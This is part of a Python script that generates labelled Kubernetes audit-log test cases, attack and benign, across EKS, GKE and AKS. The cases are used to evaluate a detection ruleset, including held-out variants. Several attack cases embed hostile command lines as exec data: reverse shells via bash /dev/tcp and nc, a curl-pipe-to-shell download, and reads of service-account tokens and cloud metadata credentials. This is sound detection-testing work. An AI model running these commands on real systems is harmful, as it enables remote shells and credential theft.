        event(
            "get",
            None,
            user="system:anonymous",
            uri="/readyz",
            ip="10.224.0.4",
            agent="kube-probe/1.30",
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "a node reads an object from its private address",
        event(
            "get",
            "configmaps",
            user=EKS_NODE,
            ns="shop",
            name="web-config",
            ip="10.0.12.34",
            agent="kubelet/v1.30.4-eks-a737599 (linux/amd64) kubernetes/a737599",
        ),
    )

    # ---- attacks: anonymous access from public addresses (T1190) -------------------------------
    a = "attack"
    c = "miss-anonymous-public"
    case(
        "eks",
        a,
        c,
        "T1190",
        "internet scanner reads /version on a public endpoint",
        event(
            "get",
            None,
            user="system:anonymous",
            uri="/version",
            ip=SCANNER_IP,
            agent="Mozilla/5.0 zgrab/0.x",
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1190",
        "anonymous attempt to list kube-system secrets, denied",
        event(
            "list",
            "secrets",
            user="system:anonymous",
            ns="kube-system",
            code=403,
            ip=SCANNER_IP,
            agent="python-requests/2.31.0",
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1190",
        "anonymous pods listing (exploit probing), denied",
        event(
            "list",
            "pods",
            user="system:anonymous",
            code=403,
            ip="193.142.146.17",
            agent="curl/8.4.0",
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1190",
        "exploit path probe with a bad token (401)",
        event(
            "get",
            None,
            user="",
            uri="/api/v1/namespaces/kube-system/pods/..%2f..%2fetc",
            code=401,
            ip="193.142.146.17",
            agent="Go-http-client/1.1",
        ),
    )

    # ---- attacks: control-plane / node identities from public addresses (T1078.004, T1528) ----
    c = "miss-system-identity-public"
    case(
        "eks",
        a,
        c,
        "T1078.004",
        "stolen kubelet credential replayed with kubectl from outside",
        event("list", "secrets", user=EKS_NODE, ns="shop", ip=ATTACKER_IP),
    )
    case(
        "gke",
        a,
        c,
        "T1528",
        "kube-system service-account token used with curl from outside",
        event(
            "list",
            "pods",
            user="system:serviceaccount:kube-system:coredns",
            ip="91.92.109.64",
            agent="curl/8.4.0",
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1528",
        "kube-system SA token replayed from a laptop with kubectl",
        event(
            "get",
            "secrets",
            user="system:serviceaccount:kube-system:azure-cns",
            ns="kube-system",
            name="azure-cns-token",
            ip="91.92.109.64",
        ),
    )

    # ---- attacks: risky pod security settings (T1548, T1611) -----------------------------------
    c = "miss-pod-security"
    case(
        "eks",
        a,
        c,
        "T1611",
        "pod that runs as root explicitly (runAsUser 0)",
        event(
            "create",
            "pods",
            user=ALICE_EKS,
            ns="shop",
            name="debug-root",
            req=pod("debug-root", sc={"runAsUser": 0}),
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1548",
        "pod with runAsNonRoot false at pod level",
        event(
            "create",
            "pods",
            user=ALICE,
            ns="shop",
            name="tools",
            req=pod("tools", pod_sc={"runAsNonRoot": False}),
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1548",
        "container allowing privilege escalation",
        event(
            "create",
            "pods",
            user=AKS_USER,
            ns="shop",
            name="setuid-helper",
            req=pod("setuid-helper", sc={"allowPrivilegeEscalation": True}),
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1611",
        "pod sharing its process namespace",
        event(
            "create",
            "pods",
            user=ALICE_EKS,
            ns="shop",
            name="sidecar-peek",
            req=pod("sidecar-peek", shareProcessNamespace=True),
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1611",
        "pod with an unmasked /proc",
        event(
            "create",
            "pods",
            user=ALICE,
            ns="shop",
            name="procfs",
            req=pod("procfs", sc={"procMount": "Unmasked"}),
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1611",
        "pod with a non-sensitive hostPath (/mnt/data)",
        event(
            "create",
            "pods",
            user=AKS_USER,
            ns="shop",
            name="hostdata",
            req=pod("hostdata", volumes=[host_path("/mnt/data")]),
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1611",
        "pod mounting the host's /var/lib/docker",
        event(
            "create",
            "pods",
            user=ALICE_EKS,
            ns="shop",
            name="layers",
            req=pod("layers", volumes=[host_path("/var/lib/docker")]),
        ),
    )

    # ---- attacks: RBAC persistence and escalation (T1098, T1078) -------------------------------
    c = "miss-rbac"
    case(
        "eks",
        a,
        c,
        "T1098",
        "ClusterRoleBinding of a user to admin",
        event(
            "create",
            "clusterrolebindings",
            user=ALICE_EKS,
            name="mallory-admin",
            group="rbac.authorization.k8s.io",
            req=binding(
                "ClusterRoleBinding",
                "mallory-admin",
                "admin",
                [{"kind": "User", "name": "mallory"}],
            ),
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1098",
        "binding to the clusterrole-aggregation controller's role (escalate)",
        event(
            "create",
            "clusterrolebindings",
            user=ALICE,
            name="agg",
            group="rbac.authorization.k8s.io",
            req=binding(
                "ClusterRoleBinding",
                "agg",
                "system:controller:clusterrole-aggregation-controller",
                [{"kind": "ServiceAccount", "name": "default", "namespace": "shop"}],
            ),
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1098",
        "binding to system:kube-controller-manager",
        event(
            "create",
            "clusterrolebindings",
            user=AKS_USER,
            name="kcm-copy",
            group="rbac.authorization.k8s.io",
            req=binding(
                "ClusterRoleBinding",
                "kcm-copy",
                "system:kube-controller-manager",
                [{"kind": "User", "name": "eve@contoso.onmicrosoft.com"}],
            ),
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1098",
        "binding to a role named system:masters",
        event(
            "create",
            "clusterrolebindings",
            user=ALICE_EKS,
            name="masters",
            group="rbac.authorization.k8s.io",
            req=binding(
                "ClusterRoleBinding",
                "masters",
                "system:masters",
                [{"kind": "User", "name": "mallory"}],
            ),
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1098",
        "existing ClusterRole patched to wildcard verbs (merge patch)",
        event(
            "patch",
            "clusterroles",
            user=ALICE,
            name="shop-reader",
            group="rbac.authorization.k8s.io",
            req={"rules": [rule(["*"], ["*"], ["*"])]},
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1098",
        "existing Role patched with a JSON patch adding '*'",
        event(
            "patch",
            "roles",
            user=AKS_USER,
            ns="shop",
            name="shop-deployer",
            group="rbac.authorization.k8s.io",
            req=[{"op": "add", "path": "/rules/0/verbs/-", "value": "*"}],
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1098",
        "ClusterRole granting nodes/proxy",
        event(
            "create",
            "clusterroles",
            user=ALICE_EKS,
            name="node-proxy",
            group="rbac.authorization.k8s.io",
            req=role("ClusterRole", "node-proxy", [rule([""], ["nodes/proxy"], ["get"])]),
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1078",
        "Role granting serviceaccounts/token create",
        event(
            "create",
            "roles",
            user=ALICE,
            ns="kube-system",
            name="token-minter",
            group="rbac.authorization.k8s.io",
            req=role("Role", "token-minter", [rule([""], ["serviceaccounts/token"], ["create"])]),
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1098",
        "ClusterRole granting impersonate",
        event(
            "create",
            "clusterroles",
            user=AKS_USER,
            name="imp",
            group="rbac.authorization.k8s.io",
            req=role("ClusterRole", "imp", [rule([""], ["users", "groups"], ["impersonate"])]),
        ),
    )

    # ---- attacks: workloads (T1610) and masquerading (T1036) -----------------------------------
    c = "miss-workloads"
    case(
        "eks",
        a,
        c,
        "T1610",
        "DaemonSet created in an app namespace by a person",
        event(
            "create",
            "daemonsets",
            user=ALICE_EKS,
            ns="shop",
            name="node-helper",
            group="apps",
            req=daemonset("node-helper", "docker.io/library/alpine:3.20"),
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1610",
        "DaemonSet in default by a developer's service account",
        event(
            "create",
            "daemonsets",
            user="system:serviceaccount:ci:deployer",
            ns="default",
            name="miner",
            group="apps",
            ip="10.4.2.8",
            req=daemonset("miner", "docker.io/xmrig/xmrig:6.21.0"),
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1036",
        "pod named like kube-proxy in default",
        event(
            "create",
            "pods",
            user=AKS_USER,
            ns="default",
            name="kube-proxy-x9v2c",
            req=pod("kube-proxy-x9v2c", image="docker.io/library/alpine:3.20"),
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1036",
        "pod running the coredns image outside kube-system",
        event(
            "create",
            "pods",
            user=ALICE_EKS,
            ns="shop",
            name="dns-helper",
            req=pod("dns-helper", image="registry.k8s.io/coredns/coredns:v1.11.1"),
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1036",
        "Deployment named coredns in default",
        event(
            "create",
            "deployments",
            user=ALICE,
            ns="default",
            name="coredns",
            group="apps",
            req={
                "kind": "Deployment",
                "metadata": {"name": "coredns"},
                "spec": {"template": {"spec": {"containers": [{"name": "c", "image": "alpine"}]}}},
            },
        ),
    )

    # ---- attacks: exec content (T1609, T1552) --------------------------------------------------
    c = "miss-exec-content"
    ex = "web-6c9f7-abcde"
    case(
        "eks",
        a,
        c,
        "T1609",
        "reverse shell through bash /dev/tcp",
        event(
            "create",
            "pods",
            user=ALICE_EKS,
            ns="shop",
            name=ex,
            sub="exec",
            stage="ResponseStarted",
            uri=exec_uri(
                "shop", ex, ["bash", "-c", "bash -i >& /dev/tcp/185.220.101.47/4444 0>&1"]
            ),
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1609",
        "download and run a script with curl (GKE PodExecOptions)",
        gke_exec(
            event(
                "create",
                "pods",
                user=ALICE,
                ns="shop",
                name=ex,
                sub="exec",
                stage="ResponseStarted",
            ),
            ["sh", "-c", "curl -fsSL http://185.220.101.47/x.sh | sh"],
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1105",
        "wget of a binary",
        event(
            "create",
            "pods",
            user=AKS_USER,
            ns="shop",
            name=ex,
            sub="exec",
            stage="ResponseStarted",
            uri=exec_uri("shop", ex, ["wget", "-q", "-O", "/tmp/k", "http://91.92.109.64/k"]),
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1552",
        "service-account token read through exec",
        event(
            "create",
            "pods",
            user=ALICE_EKS,
            ns="shop",
            name=ex,
            sub="exec",
            stage="ResponseStarted",
            uri=exec_uri(
                "shop", ex, ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]
            ),
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1552.005",
        "instance metadata credentials read through exec",
        event(
            "create",
            "pods",
            user=ALICE_EKS,
            ns="shop",
            name=ex,
            sub="exec",
            stage="ResponseStarted",
            uri=exec_uri(
                "shop",
                ex,
                ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
            ),
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1552.005",
        "GKE metadata server token read through exec",
        gke_exec(
            event(
                "create",
                "pods",
                user=ALICE,
                ns="shop",
                name=ex,
                sub="exec",
                stage="ResponseStarted",
            ),
            [
                "sh",
                "-c",
                "wget -qO- --header Metadata-Flavor:Google "
                "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            ],
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1005",
        "kubectl cp out of a pod, logged at its final stage only",
        event(
            "create",
            "pods",
            user=ALICE_EKS,
            ns="shop",
            name=ex,
            sub="exec",
            code=101,
            uri=exec_uri("shop", ex, ["tar", "cf", "-", "/app/config"]),
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1105",
        "kubectl cp into a pod (tar xmf), final stage only",
        event(
            "create",
            "pods",
            user=AKS_USER,
            ns="shop",
            name=ex,
            sub="exec",
            code=101,
            uri=exec_uri(
                "shop",
                ex,
                ["tar", "--no-same-permissions", "--no-same-owner", "-xmf", "-", "-C", "/tmp"],
            ),
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1609",
        "interactive shell, final stage only",
        event(
            "create",
            "pods",
            user=AKS_USER,
            ns="shop",
            name=ex,
            sub="exec",
            code=101,
            uri=exec_uri("shop", ex, ["sh"], tty=True),
        ),
    )

    # ---- attacks: secret access (T1552.007) ----------------------------------------------------
    c = "miss-secret-access"
    case(
        "eks",
        a,
        c,
        "T1552.007",
        "secret read with curl",
        event(
            "get",
            "secrets",
            user=ALICE_EKS,
            ns="shop",
            name="web-db",
            agent="curl/8.4.0",
            ip="10.0.3.17",
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1552.007",
        "secrets listed with python-requests",
        event(
            "list",
            "secrets",
            user="system:serviceaccount:shop:web",
            ns="shop",
            agent="python-requests/2.31.0",
            ip="10.4.1.30",
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1552.007",
        "secret read with Go's default client",
        event(
            "get",
            "secrets",
            user="system:serviceaccount:shop:web",
            ns="payments",
            name="stripe",
            agent="Go-http-client/1.1",
            ip="10.244.1.17",
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1552.007",
        "secret name guessing (404)",
        event("get", "secrets", user=ALICE_EKS, ns="payments", name="db-password", code=404),
    )
    case(
        "gke",
        a,
        c,
        "T1552.007",
        "secret name guessing in kube-system (404)",
        event(
            "get",
            "secrets",
            user="system:serviceaccount:shop:web",
            ns="kube-system",
            name="admin-token",
            code=404,
            ip="10.4.1.30",
            agent="kubectl/v1.29.0",
        ),
    )

    # ---- attacks: cluster plumbing (T1565, T1649, T1133) ---------------------------------------
    c = "miss-cluster-plumbing"
    case(
        "eks",
        a,
        c,
        "T1565",
        "CoreDNS ConfigMap rewritten to redirect a domain",
        event(
            "patch",
            "configmaps",
            user=ALICE_EKS,
            ns="kube-system",
            name="coredns",
            req={
                "data": {
                    "Corefile": ".:53 {\n    rewrite name api.example.com evil.example.net\n}\n"
                }
            },
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1565",
        "kube-proxy ConfigMap changed",
        event(
            "update",
            "configmaps",
            user=AKS_USER,
            ns="kube-system",
            name="kube-proxy",
            req={
                "kind": "ConfigMap",
                "metadata": {"name": "kube-proxy"},
                "data": {"config.conf": "mode: ipvs"},
            },
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1649",
        "CSR for the system:masters group",
        event(
            "create",
            "certificatesigningrequests",
            user=ALICE,
            name="backdoor",
            group="certificates.k8s.io",
            req={
                "kind": "CertificateSigningRequest",
                "metadata": {"name": "backdoor"},
                "spec": {
                    "request": CSR_SYSTEM_MASTERS,
                    "signerName": "kubernetes.io/kube-apiserver-client",
                    "usages": ["client auth"],
                },
            },
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1649",
        "CSR deleted after use",
        event(
            "delete",
            "certificatesigningrequests",
            user=ALICE_EKS,
            name="backdoor",
            group="certificates.k8s.io",
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1133",
        "Redis exposed by a public LoadBalancer",
        event(
            "create",
            "services",
            user=AKS_USER,
            ns="cache",
            name="redis",
            req=service("redis", "LoadBalancer", [6379]),
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1133",
        "Elasticsearch exposed by a LoadBalancer",
        event(
            "create",
            "services",
            user=ALICE,
            ns="search",
            name="es",
            req=service("es", "LoadBalancer", [9200, 9300]),
        ),
    )

    # ---- attacks: known-bad sources (T1078) ----------------------------------------------------
    c = "miss-threat-source"
    case(
        "eks",
        a,
        c,
        "T1078",
        "a valid IAM identity calling from a Tor exit node",
        event(
            "list",
            "pods",
            user=ALICE_EKS,
            ns="shop",
            ip=ATTACKER_IP,
            extra=iam_extra("DevOps", "alice"),
        ),
    )

    # ---- attacks the rules already caught (kept to show nothing regresses) ---------------------
    c = "baseline"
    case(
        "gke",
        a,
        c,
        "T1611",
        "privileged pod by a person",
        event(
            "create",
            "pods",
            user=ALICE,
            ns="shop",
            name="priv",
            req=pod("priv", sc={"privileged": True}),
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1098",
        "cluster-admin bound to a user",
        event(
            "create",
            "clusterrolebindings",
            user=AKS_USER,
            name="eve-admin",
            group="rbac.authorization.k8s.io",
            req=binding(
                "ClusterRoleBinding",
                "eve-admin",
                "cluster-admin",
                [{"kind": "User", "name": "eve@contoso.onmicrosoft.com"}],
            ),
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1609",
        "interactive shell into a kube-system pod",
        event(
            "create",
            "pods",
            user=ALICE_EKS,
            ns="kube-system",
            name="coredns-5d78c9869d-abcde",
            sub="exec",
            stage="ResponseStarted",
            uri=exec_uri("kube-system", "coredns-5d78c9869d-abcde", ["sh"], tty=True),
        ),
    )


def build_heldout() -> None:
    """Cases written after the rules were changed, without changing the rules afterwards: how the
    ruleset fares on variants it was not written against (reported apart, misses included)."""
    a, b = "attack", "benign"
    c = "heldout-attack"
    ex = "api-5f6d7c8b9-q2w3e"
    case(
        "eks",
        a,
        c,
        "T1059.004",
        "reverse shell with busybox nc",
        event(
            "create",
            "pods",
            user=ALICE_EKS,
            ns="shop",
            name=ex,
            sub="exec",
            stage="ResponseStarted",
            uri=exec_uri("shop", ex, ["busybox", "nc", "203.0.113.50", "4444", "-e", "sh"]),
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1059.006",
        "TTY upgrade with python pty.spawn (GKE logs the command in the request)",
        gke_exec(
            event("create", "pods", user=ALICE, ns="shop", name=ex, sub="exec"),
            ["python3", "-c", "import pty; pty.spawn('/bin/bash')"],
            tty=True,
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1552.001",
        "Azure workload-identity token read through exec",
        event(
            "create",
            "pods",
            user=AKS_USER,
            ns="shop",
            name=ex,
            sub="exec",
            stage="ResponseStarted",
            uri=exec_uri("shop", ex, ["cat", "/var/run/secrets/azure/tokens/azure-identity-token"]),
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1098",
        "cluster-wide binding of a user to edit",
        event(
            "create",
            "clusterrolebindings",
            user=ALICE,
            name="mallory-edit",
            group="rbac.authorization.k8s.io",
            req=binding(
                "ClusterRoleBinding",
                "mallory-edit",
                "edit",
                [{"kind": "User", "name": "mallory@example.com"}],
            ),
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1611",
        "pod mounting the kubelet's pod directory",
        event(
            "create",
            "pods",
            user=AKS_USER,
            ns="shop",
            name="kpods",
            req=pod("kpods", volumes=[host_path("/var/lib/kubelet/pods")]),
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1098",
        "default SA of kube-system given a custom secrets-reading role",
        event(
            "create",
            "rolebindings",
            user=ALICE_EKS,
            ns="kube-system",
            name="read-secrets",
            group="rbac.authorization.k8s.io",
            req={
                "kind": "RoleBinding",
                "metadata": {"name": "read-secrets"},
                "roleRef": {
                    "apiGroup": "rbac.authorization.k8s.io",
                    "kind": "Role",
                    "name": "secret-reader",
                },
                "subjects": [
                    {"kind": "ServiceAccount", "name": "default", "namespace": "kube-system"}
                ],
            },
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1190",
        "anonymous namespace listing from the internet, denied",
        event(
            "list",
            "namespaces",
            user="system:anonymous",
            code=403,
            ip="45.155.205.99",
            agent="Go-http-client/1.1",
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1528",
        "EBS CSI controller token replayed with python-requests",
        event(
            "list",
            "secrets",
            user="system:serviceaccount:kube-system:ebs-csi-controller-sa",
            ip="91.92.109.70",
            agent="python-requests/2.32.3",
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1133",
        "MongoDB behind a public LoadBalancer on port 80 -> 27017",
        event(
            "create",
            "services",
            user=AKS_USER,
            ns="data",
            name="mongo",
            req={
                "kind": "Service",
                "metadata": {"name": "mongo"},
                "spec": {
                    "type": "LoadBalancer",
                    "selector": {"app": "mongo"},
                    "ports": [{"port": 80, "targetPort": 27017}],
                },
            },
        ),
    )
    case(
        "gke",
        a,
        c,
        "T1036.005",
        "pod named metrics-server in default",
        event(
            "create",
            "pods",
            user=ALICE,
            ns="default",
            name="metrics-server-7c9d8",
            req=pod("metrics-server-7c9d8", image="alpine:3.20"),
        ),
    )
    case(
        "eks",
        a,
        c,
        "T1610",
        "DaemonSet created with server-side apply (verb patch, 201)",
        event(
            "patch",
            "daemonsets",
            user=ALICE_EKS,
            ns="shop",
            name="node-agent",
            group="apps",
            code=201,
            req=daemonset("node-agent", "docker.io/library/alpine:3.20"),
        ),
    )
    case(
        "aks",
        a,
        c,
        "T1552.007",
        "secret read with Wget",
        event(
            "get",
            "secrets",
            user="system:serviceaccount:shop:web",
            ns="shop",
            name="db",
            agent="Wget/1.21.4",
            ip="10.244.0.31",
        ),
    )

    c = "heldout-benign"
    case(
        "gke",
        b,
        c,
        "",
        "Datadog agent pod (datadog namespace) with its host paths",
        event(
            "create",
            "pods",
            user="system:serviceaccount:kube-system:daemon-set-controller",
            ns="datadog",
            ip="10.128.0.2",
            agent=KCM_GKE + "daemon-set-controller",
            req=pod(
                None,
                generate="datadog-agent-",
                image="gcr.io/datadoghq/agent:7.57.2",
                volumes=[
                    host_path("/var/run/datadog", "dsdsocket"),
                    host_path("/proc", "procdir"),
                    host_path("/sys/fs/cgroup", "cgroups"),
                ],
            ),
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "CI deploys a team's namespace-admin RoleBinding",
        event(
            "create",
            "rolebindings",
            user="system:serviceaccount:ci:deployer",
            ns="team-a",
            name="team-a-admins",
            group="rbac.authorization.k8s.io",
            ip="10.0.70.12",
            agent="Helm/3.15.4",
            req=binding(
                "RoleBinding", "team-a-admins", "admin", [{"kind": "Group", "name": "team-a"}]
            ),
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "kubelet reads a ConfigMap through the cluster's outbound IP",
        event(
            "get",
            "configmaps",
            user=AKS_NODE,
            ns="shop",
            name="web",
            ip="20.71.44.18",
            agent="kubelet/v1.30.4 (linux/amd64) kubernetes/e5bc5e7",
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "GKE Backup service agent reads a secret",
        event(
            "get",
            "secrets",
            user=f"service-{GKE_PROJECT_NUMBER}@gcp-sa-gkebackup.iam.gserviceaccount.com",
            ns="shop",
            name="db",
            ip="35.191.30.2",
            agent="Go-http-client/2.0",
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "cert-manager cainjector patches a webhook's CA bundle",
        event(
            "patch",
            "validatingwebhookconfigurations",
            user="system:serviceaccount:cert-manager:cert-manager-cainjector",
            name="cert-manager-webhook",
            group="admissionregistration.k8s.io",
            ip="10.0.80.3",
            agent="cainjector/v1.15.1 (linux/amd64) cert-manager/ef8f3c9",
            req={
                "webhooks": [
                    {
                        "name": "webhook.cert-manager.io",
                        "clientConfig": {"caBundle": "LS0tLS1CRUdJTg=="},
                    }
                ]
            },
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "node-exporter pod in monitoring (host namespaces and paths)",
        event(
            "create",
            "pods",
            user="system:serviceaccount:kube-system:daemon-set-controller",
            ns="monitoring",
            ip="172.31.14.3",
            agent=KCM_AKS + "daemon-set-controller",
            req=pod(
                None,
                generate="node-exporter-",
                image="quay.io/prometheus/node-exporter:v1.8.2",
                hostPID=True,
                hostNetwork=True,
                volumes=[
                    host_path("/proc", "proc"),
                    host_path("/sys", "sys"),
                    host_path("/", "root"),
                ],
            ),
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "Argo CD creates a DaemonSet",
        event(
            "create",
            "daemonsets",
            user="system:serviceaccount:argocd:argocd-application-controller",
            ns="logging",
            name="fluent-bit",
            group="apps",
            ip="10.4.0.7",
            agent="argocd-application-controller/v2.12.3",
            req=daemonset("fluent-bit", "cr.fluentbit.io/fluent/fluent-bit:3.1.4"),
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "internal LoadBalancer for PostgreSQL (azure-load-balancer-internal)",
        event(
            "create",
            "services",
            user=AKS_USER,
            ns="data",
            name="pg",
            req=service(
                "pg",
                "LoadBalancer",
                [5432],
                {"service.beta.kubernetes.io/azure-load-balancer-internal": "true"},
            ),
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "EKS node-monitoring agent pod in kube-system (privileged, host paths)",
        event(
            "create",
            "pods",
            user="system:serviceaccount:kube-system:daemon-set-controller",
            ns="kube-system",
            ip="10.0.88.14",
            agent=KCM_AKS + "daemon-set-controller",
            req=pod(
                None,
                generate="eks-node-monitoring-agent-",
                image=ECR + "/eks/eks-node-monitoring-agent:v1.0.0",
                sc={"privileged": True},
                volumes=[host_path("/", "host-root")],
            ),
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "a person patches a Deployment's image",
        event(
            "patch",
            "deployments",
            user=ALICE,
            ns="shop",
            name="web",
            group="apps",
            req={
                "spec": {
                    "template": {
                        "spec": {"containers": [{"name": "app", "image": "ghcr.io/shop/web:1.4.3"}]}
                    }
                }
            },
        ),
    )


WRAP = {"eks": eks, "gke": gke, "aks": aks}


def main() -> None:
    build()
    build_heldout()
    out: dict[str, list[str]] = {"eks": [], "gke": [], "aks": []}
    for i, (provider, label, cls, technique, note, ev) in enumerate(CASES, 1):
        record = ev if "protoPayload" in ev else WRAP[provider](ev)
        line = {
            "id": f"{provider}-{i:03d}",
            "label": label,
            "class": cls,
            "technique": technique,
            "note": note,
            "record": record,
        }
        out[provider].append(json.dumps(line, sort_keys=False))
    for provider, lines in out.items():
        (HERE / f"{provider}.jsonl").write_text("\n".join(lines) + "\n")


if __name__ == "__main__":
    main()
